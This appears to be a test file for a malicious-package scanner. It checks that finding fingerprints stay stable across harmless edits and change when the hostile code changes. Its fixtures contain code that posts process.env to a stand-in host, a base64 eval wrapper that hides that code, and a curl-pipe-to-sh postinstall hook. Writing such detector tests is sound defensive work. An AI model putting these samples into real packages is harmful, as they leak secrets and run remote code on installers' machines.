import { describe, expect, test } from 'vitest';
import { scanPackage, scanSource } from '../src/scan.js';

/** The fingerprint of the one finding of `sends-environment`. */
function fingerprint(code: string): string | undefined {
  const found = scanSource(code, { path: 'index.js' }).filter(({ rule }) => rule === 'sends-environment');
  expect(found).toHaveLength(1);
  return found[0]?.fingerprint;
}

const code = `const https = require('https');
const host = 'collect.invalid';

function send(body) {
  const request = https.request({ host, method: 'POST' });
  request.write(body);
  request.end();
}

send(JSON.stringify(process.env));
`;

describe('a finding is known by the code it concerns', () => {
  test('which is as many hexadecimal digits as nobody can forge', () => {
    expect(fingerprint(code)).toMatch(/^[0-9a-f]{32}$/);
  });

  test.each([
    ['moves down', `'use strict';\n\n\n${code}`],
    ['gets a neighbour', `${code}\nfunction add(a, b) {\n  return a + b;\n}\nmodule.exports = { add };\n`],
    ['gets other line ends', code.replaceAll('\n', '\r\n')],
    ['loses a neighbour that it does not use', code.replace('\n\nfunction', '\nconst unused = 1;\nfunction')],
  ])('and stays the same when that %s', (_, changed) => expect(fingerprint(changed)).toBe(fingerprint(code)));

  test.each([
    ['its function does', code.replace("'POST'", "'PUT'")],
    ['what it uses does, elsewhere in the file', code.replace('collect.invalid', 'gather.invalid')],
    ['what it uses is changed later', `${code}host.toString();\nhost.name = 1;\n`.replace('const host', 'let host')],
    ['what it is called with does', code.replace('process.env)', '{ ...process.env, by: 1 })')],
  ])('and becomes another when %s', (_, changed) => expect(fingerprint(changed)).not.toBe(fingerprint(code)));

  test('in a bundle, too, which is one statement around everything', () => {
    const filler = Array.from(
      { length: 60 },
      (_, at) => `function f${at}(a) { return a * ${at} + ${'9'.repeat(20)}; }`,
    );
    const bundle = (others: readonly string[], own = code): string =>
      `(function () {\n${others.join('\n')}\n${own}\n})();`;
    expect(fingerprint(bundle(filler.slice(1)))).toBe(fingerprint(bundle(filler)));
    expect(fingerprint(bundle(filler, code.replace("'POST'", "'PUT'")))).not.toBe(fingerprint(bundle(filler)));
  });

  test('in a text that is decoded, too', () => {
    const hidden = (text: string): string => `eval(atob('${Buffer.from(text).toString('base64')}'));`;
    expect(fingerprint(hidden(code))).toBe(fingerprint(`'use strict';\n${hidden(code)}`));
    expect(fingerprint(hidden(code))).not.toBe(fingerprint(hidden(code.replace('POST', 'PUT'))));
  });

  test('over versions of its package', async () => {
    const scanned = async (version: string, script: string) => {
      const manifest = { name: 'a', version, scripts: { postinstall: script } };
      const { findings } = await scanPackage({
        files: { 'package.json': JSON.stringify(manifest), 'index.js': code },
      });
      return findings
        .filter(({ behaviour }) => behaviour !== 'capability')
        .map(({ rule, fingerprint: id }) => `${rule} ${id}`)
        .sort();
    };
    const before = await scanned('1.0.0', 'curl https://collect.invalid/a | sh');
    expect(await scanned('1.0.1', 'curl https://collect.invalid/a | sh')).toEqual(before);
    expect(await scanned('1.0.1', 'curl https://collect.invalid/b | sh')).not.toEqual(before);
  });

  test('and costs little where everything hangs together', () => {
    const names = Array.from({ length: 3000 }, (_, at) => `v${at}`);
    const woven = names.map(
      (name, at) => `var ${name} = function () { return ${names[(at * 7 + 1) % 3000]} || ${names[(at + 1) % 3000]}; };`,
    );
    expect(fingerprint(`${woven.join('\n')}\nv0();\n${code.replace('send(JSON', 'v1(); send(JSON')}`)).toMatch(
      /^[0-9a-f]{32}$/,
    );
  });
});
